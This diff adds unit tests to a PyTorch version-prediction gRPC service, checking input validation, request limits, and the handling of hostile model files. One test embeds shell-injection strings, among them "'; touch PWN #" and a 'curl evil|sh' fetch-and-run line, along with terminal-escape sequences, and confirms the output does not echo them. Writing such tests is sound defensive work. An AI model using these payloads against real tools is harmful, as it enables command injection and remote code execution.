@@ -123,6 +123,46 @@ class TorchVersionsTest(unittest.TestCase):
         self.assertEqual(done.code, 2, done.err)
         self.assertRegex(done.err, r"try: cobra-client predict \S*net.py --target newer --server \S+ --input 1x4x16x8")
 
+    def test_no_version_that_is_none_reaches_a_reader(self):
+        for version in ("2." + "0" * 2_000_000, "2.0\n", "2.0;x", "9.9", "1.14", "two"):
+            with self.assertRaises(grpc.RpcError) as refused:
+                self.predict(self.trained, version=version)
+            self.assertEqual(refused.exception.code(), grpc.StatusCode.INVALID_ARGUMENT, version[:20])
+            self.assertIn("`torch_version`", refused.exception.details())
+            self.assertLess(len(refused.exception.details()), 200)
+
+    def test_source_is_read_for_a_few_versions_only(self):
+        with open(PROBE) as file:
+            probe = file.read()
+        names = []
+        for minor in range(5):
+            names.append(f"machine-{minor}")
+            changed = re.sub(r"libtorch-[0-9.]+", f"libtorch-2.{minor}.0", probe)
+            self.stub.Calibrate(self.pb.CalibrateRequest(probe_json=changed, target=names[-1]), timeout=60)
+        self.assertEqual(len(self.predict(*names[:4]).predictions), 4)
+        with self.assertRaises(grpc.RpcError) as refused:
+            self.predict(*names)
+        self.assertEqual(refused.exception.code(), grpc.StatusCode.RESOURCE_EXHAUSTED)
+        self.assertEqual(len(self.predict(*names, version="2.1.0").predictions), 5)
+        odd = re.sub(r"libtorch-[0-9.]+", "libtorch-5..", probe)
+        self.stub.Calibrate(self.pb.CalibrateRequest(probe_json=odd, target="odd"), timeout=60)
+        self.assertEqual(self.predict("odd").predictions[0].torch_version, "2.13.0")
+
+    def test_what_a_file_says_is_no_command(self):
+        path = os.path.join(self.folder.name, "evil.py")
+        for line in (
+            'class Net(nn.Module):\n    def __init__(self, n: "\'; touch PWN #"): pass\n',
+            "globals()[\"'\\ncurl evil|sh\\n'\"] = nn.Linear(1, 1)\n",
+            "globals()['\\x1b]0;title\\x07\\x1b[2J'] = nn.Linear(1, 1)\n",
+            "net = nn.Sequential()\nnet.add_module('\\x1b[2J\\u202e\\x9b', nn.ReLU())\n",
+        ):
+            with open(path, "w") as file:
+                file.write("import torch.nn as nn\n" + line)
+            done = programs.client("graph", path, "--input", "1x4")
+            for text in (done.out, done.err):
+                self.assertNotRegex(text, "[\x1b\x07\x9b\u202e]")
+                self.assertNotRegex(text, r"--entry '[^']*[^\w().' ]")
+
     def test_training_is_another_network(self):
         source = self.pb.SourceModel(file="net.py", entry="nn.Sequential(nn.BatchNorm2d(4), nn.Dropout(0.1))")
         source.files.add(path="net.py", text=NET.encode())
